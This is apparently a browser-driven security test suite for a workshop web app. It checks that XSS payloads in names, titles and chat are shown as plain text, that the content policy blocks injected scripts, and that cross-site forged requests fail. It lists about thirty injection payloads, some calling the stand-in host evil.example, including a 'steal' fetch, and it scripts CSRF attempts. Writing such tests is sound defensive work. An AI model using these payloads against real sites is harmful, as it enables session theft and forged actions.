/** Hostile names, titles and messages in the page, and a hostile page beside it, in a real browser. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { clusterSettings, type Json, type TestServer, testServer } from '../kit/server.ts';
import { until } from '../kit/until.ts';
import { launchChromium } from './chromium.ts';

let browser: Browser;
let server: TestServer;
let context: BrowserContext;
let page: Page;
/** Dialogs that opened, and errors thrown: none of either is ours. */
const alarms: string[] = [];

beforeAll(async () => {
  const settings = await clusterSettings();
  [browser, server] = await Promise.all([
    launchChromium(),
    testServer({ ...settings, GUESTS: 'true', RATE_LIMIT_SCALE: '0', PRESENCE_GRACE_MS: '15000' }),
  ]);
}, 90_000);
afterAll(async () => {
  await browser.close();
  await server.close();
});
afterEach(async () => {
  await context.close();
  expect(alarms.splice(0)).toEqual([]);
});

/** Opens the page, with everything noted that its policy refuses. */
async function arrive(address: string): Promise<void> {
  context = await browser.newContext();
  page = await context.newPage();
  page.setDefaultTimeout(20_000);
  page.on('dialog', (dialog) => {
    alarms.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => alarms.push(String(error)));
  await page.addInitScript(() => {
    const noted: string[] = [];
    Object.assign(globalThis, { noted });
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      noted.push(`${violatedDirective} ${blockedURI}`),
    );
  });
  await page.goto(new URL(address, server.url).href);
}

/** What the policy refused so far, and what ran that should not have. */
const noted = () =>
  page.evaluate(() => {
    const { noted, owned } = globalThis as unknown as { noted: string[]; owned?: unknown };
    return { noted: [...noted], owned: owned ?? null };
  });

async function enter(name: string): Promise<void> {
  await page.getByLabel('Your name').fill(name);
  await page.getByRole('button', { name: /Continue|Enter the workshop/ }).click();
}

const payloads = [
  '<script>owned=1</script>',
  '<img src=x onerror=owned=1>',
  '<svg onload=owned=1>',
  '<svg><script>owned=1</script></svg>',
  '<iframe srcdoc="<script>parent.owned=1</script>">',
  '<iframe src="javascript:parent.owned=1">',
  '<a href="javascript:owned=1">click</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '"><script>owned=1</script>',
  '\'"><img src=x onerror=alert(1)>',
  '</p></li></ol><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<style>@import "https://evil.example/a.css";</style>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><button>go</button></form>',
  '<body onload=owned=1>',
  '<details open ontoggle=owned=1>',
  '<input autofocus onfocus=owned=1>',
  '<video><source onerror=owned=1></video>',
  '<math><mtext></mtext><script>owned=1</script></math>',
  '<object data="javascript:owned=1">',
  '<embed src="javascript:owned=1">',
  '{{constructor.constructor("owned=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is the payload
  '${owned=1}',
  '&lt;script&gt;owned=1&lt;/script&gt;',
  'https://evil.example/"onmouseover="owned=1',
  '\\u003cscript\\u003eowned=1\\u003c/script\\u003e',
  '__proto__',
  'constructor',
];

describe('the page', () => {
  it('[S26] shows hostile names, titles and messages as the text that they are, and runs nothing', {
    timeout: 120_000,
  }, async () => {
    const title = '"><img src=x onerror=alert(1)><script>owned=1</script>';
    await arrive('/');
    await enter('<img src=x onerror=owned=1>');
    await page.getByLabel('Title').fill(title);
    await page.getByRole('button', { name: 'Start now' }).click();
    await page.getByText('<img src=x onerror=owned=1> (you)').waitFor();
    const workshopId = Number(new URL(page.url()).pathname.split('/').at(-1));
    // Everyone has a payload for a name, raises a hand, and says the same again.
    for (const [index, payload] of payloads.entries()) {
      const who = { id: 100 + index, name: payload.slice(0, 80) };
      await server.rest(who, 'POST', `/api/workshops/${workshopId}/rsvp`);
      const guest = await server.connect(who);
      await guest.say('join', { workshopId });
      await guest.say('raise-hand', { workshopId });
      expect(await guest.say('chat', { workshopId, message: payload })).toMatchObject({ ok: true });
    }
    const said = () => page.getByRole('log').locator('.said').allTextContents();
    await expect.poll(said, { timeout: 20_000 }).toEqual(payloads);
    // Also where it comes as a state and not as events, and in the list.
    await page.reload();
    await expect.poll(said, { timeout: 20_000 }).toEqual(payloads);
    expect(await noted()).toEqual({ noted: [], owned: null });
    const foreign = await page
      .locator('#page')
      .evaluate((root) =>
        [...root.querySelectorAll('*')]
          .filter(
            (element) =>
              ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'META', 'LINK', 'STYLE'].includes(
                element.tagName,
              ) ||
              [...element.attributes].some(
                ({ name, value }) => /^on/i.test(name) || /^\s*javascript:/i.test(value),
              ),
          )
          .map((element) => element.outerHTML),
      );
    expect(foreign).toEqual([]);
    await page.getByRole('button', { name: 'Leave' }).click();
    await page.getByText(title).first().waitFor();
    expect(await noted()).toEqual({ noted: [], owned: null });
  });

  it('[S26] would not run what got into it all the same: its policy refuses', {
    timeout: 60_000,
  }, async () => {
    await arrive('/');
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img src="data:," onerror="owned=1"><iframe srcdoc="x"></iframe>',
      );
      const script = document.createElement('script');
      script.textContent = 'owned = 1';
      document.body.append(script);
      const elsewhere = document.createElement('script');
      elsewhere.src = 'https://evil.example/a.js';
      document.body.append(elsewhere);
      void fetch('https://evil.example/steal').catch(() => undefined);
    });
    await until(async () => (await noted()).noted.length >= 4, { what: 'the refusals', timeout: 10_000 });
    const refused = await noted();
    expect(refused.owned).toBeNull();
    const directives = refused.noted.map((each) => each.split(' ')[0]);
    expect(directives).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src', 'img-src']));
  });
});

describe('a page of another site', () => {
  let evil: Server;
  let evilPort: number;
  let workshopId: number;

  beforeAll(async () => {
    evil = createServer((_, response) => response.end('<!doctype html><title>win a prize</title>'));
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    evilPort = (evil.address() as AddressInfo).port;
  });
  afterAll(() => new Promise((resolve) => evil.close(resolve)));

  it('[S27] the cookie is out of reach of scripts and of requests from other sites', {
    timeout: 60_000,
  }, async () => {
    await arrive('/');
    await enter('Ada');
    await page.getByText('Coming up').waitFor();
    const [cookie] = await context.cookies();
    expect(cookie).toMatchObject({
      name: 'workshop_token',
      httpOnly: true,
      sameSite: 'Lax',
      path: '/',
      secure: false,
    });
    expect(await page.evaluate(() => document.cookie)).toBe('');
  });

  // Another port is the same site to a browser: the cookie comes along, and the origin alone tells the pages apart.
  it.each(['127.0.0.1', 'localhost'])(
    '[S27] at %s changes nothing, by forms, requests or sockets',
    {
      timeout: 120_000,
    },
    async (host) => {
      await arrive('/');
      await enter('Victim');
      await page.getByLabel('Title').fill('Weaving');
      await page.getByLabel('Start right away').uncheck();
      await page.getByLabel('Starts at').fill('2030-01-01T12:00');
      await page.getByRole('button', { name: 'Schedule' }).click();
      await page.getByText('Victim (you)').waitFor();
      workshopId = Number(new URL(page.url()).pathname.split('/').at(-1));
      const admin = { id: 9, roles: ['admin'] };
      const there = async (): Promise<Json> => {
        const { body } = await server.rest(admin, 'GET', `/api/workshops/${workshopId}`);
        const analyst = { id: 9, roles: ['analyst'] };
        const { body: log } = await server.rest(analyst, 'GET', `/api/workshops/${workshopId}/events`);
        const types: string[] = log.items.map(({ type }: Json) => type);
        // Whoever goes to another page leaves the room, a while later.
        return {
          ...{ status: body.status, title: body.title },
          types: types.filter((type) => type !== 'user-left'),
        };
      };
      /** Ids follow on one another: what was scheduled meanwhile took one, whether it is listed yet or not. */
      const nextId = async (): Promise<number> => {
        const plan = { title: 'Marker', scheduledAt: '2030-01-01T12:00:00Z' };
        return (await server.rest(admin, 'POST', '/api/workshops', plan)).body.id;
      };
      expect(await nextId()).toBe(workshopId + 1);
      const before = await there();
      const cookies = await context.cookies(server.url);

      await page.goto(`http://${host}:${evilPort}/`);
      const paths = [
        `/api/workshops/${workshopId}/start`,
        `/api/workshops/${workshopId}/cancel`,
        `/api/workshops/${workshopId}/rsvp`,
        '/api/workshops',
        '/api/guest',
      ];
      const heard = await page.evaluate(
        async ([target, paths]) => {
          const json = '{"title":"forged","scheduledAt":"2030-01-01T12:00:00Z","displayName":"Mallory"}';
          const outcomes: string[] = [];
          for (const path of paths)
            for (const [mode, type] of [
              ['no-cors', 'text/plain'],
              ['cors', 'text/plain'],
              ['cors', 'application/json'],
            ] as const) {
              const asking = { method: 'POST', mode, credentials: 'include', body: json } as const;
              const answer = await fetch(target + path, {
                ...asking,
                headers: { 'content-type': type },
              }).catch(() => undefined);
              outcomes.push(answer === undefined ? 'unreadable' : answer.type);
            }
          // Without a body there is no type to be refused for, and browsers ask nobody before they send it.
          for (const path of paths)
            await fetch(target + path, { method: 'POST', mode: 'no-cors', credentials: 'include' }).catch(
              () => undefined,
            );
          const reading = await fetch(`${target}/api/workshops`, { credentials: 'include' }).catch(
            () => undefined,
          );
          outcomes.push(reading === undefined ? 'unreadable' : reading.type);
          for (const path of paths)
            for (const type of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data']) {
              const frame = Object.assign(document.createElement('iframe'), { name: `${path}${type}` });
              const form = Object.assign(document.createElement('form'), {
                ...{ method: 'POST', action: target + path, enctype: type, target: frame.name },
              });
              form.append(Object.assign(document.createElement('input'), { name: json, value: '' }));
              document.body.append(frame, form);
              const done = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
              form.submit();
              await Promise.race([done, new Promise((resolve) => setTimeout(resolve, 1_500))]);
            }
          const socket = new WebSocket(
            `${target.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`,
          );
          outcomes.push(
            await new Promise<string>((resolve) => {
              socket.onopen = () => resolve('a socket');
              socket.onerror = () => resolve('no socket');
            }),
          );
          return outcomes;
        },
        [server.url, paths] as const,
      );
      expect(new Set(heard)).toEqual(new Set(['unreadable', 'no socket']));
      expect(await there()).toEqual(before);
      expect(await nextId()).toBe(workshopId + 2);
      expect(await context.cookies(server.url)).toEqual(cookies);
    },
  );
});
